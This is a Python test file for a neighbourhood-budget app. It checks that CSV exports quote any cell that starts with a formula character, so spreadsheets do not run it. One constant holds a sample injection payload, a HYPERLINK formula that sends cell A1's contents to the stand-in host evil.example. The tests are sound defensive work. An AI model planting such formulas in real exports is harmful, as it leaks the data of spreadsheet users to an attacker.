"""CSV exports never hand a spreadsheet a formula: cells starting with = + - @ tab or CR get a quote."""

import asyncio
import csv
import io
from typing import Any

import pytest
from conftest import World
from litestar.testing import TestClient
from sqlalchemy import update
from test_round_export import csv_round

from buurtbudget.csv_export import csv_text, safe_cell
from buurtbudget.db.engine import create_engine
from buurtbudget.initiatives.models import Initiative
from buurtbudget.settings import Settings

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Speeltuin = leuk", "Speeltuin = leuk"),
        ("", ""),
        (-150, -150),
        (12.5, 12.5),
        (None, None),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_gets_a_quote(value: Any, expected: Any) -> None:
    assert safe_cell(value) == expected


def test_the_header_and_every_row_go_through_the_same_neutraliser() -> None:
    text = csv_text(["=naam", "bedrag"], [["@x", 5], ["gewoon", -3]])
    assert list(csv.reader(io.StringIO(text))) == [["'=naam", "bedrag"], ["'@x", "5"], ["gewoon", "-3"]]


def test_the_public_round_export_neutralises_a_formula_in_an_initiative_title(
    client: TestClient[Any], settings: Settings, world: World
) -> None:
    round_id, (a, _b, _c) = csv_round(settings, world)

    async def rename() -> None:
        engine = create_engine(settings.database_url)
        async with engine.begin() as connection:
            await connection.execute(update(Initiative).where(Initiative.id == a).values(title=HYPERLINK))
        await engine.dispose()

    asyncio.run(rename())
    response = client.get(f"/api/v1/rounds/{round_id}/export.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    titles = {int(row["initiative_id"]): row["title"] for row in rows}
    assert titles[a] == "'" + HYPERLINK
    assert all(not row[column].startswith(("=", "+", "-", "@")) for row in rows for column in row)
